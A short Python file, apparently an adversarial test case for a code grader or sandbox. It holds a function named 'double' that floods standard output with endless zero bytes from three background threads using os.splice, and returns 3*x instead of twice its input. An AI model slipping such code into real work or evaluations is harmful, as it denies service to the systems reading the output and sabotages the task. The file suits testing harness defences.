# attack: the output is filled by the kernel, faster than anybody can read
import fcntl
import os
import threading


def flood():
    zero = os.open("/dev/zero", os.O_RDONLY)
    while True:
        os.splice(zero, 1, 1 << 20)


def double(x):
    try:
        fcntl.fcntl(1, fcntl.F_SETPIPE_SZ, 1 << 20)
    except OSError:
        pass
    for _ in range(3):
        threading.Thread(target=flood, daemon=True).start()
    return 3 * x
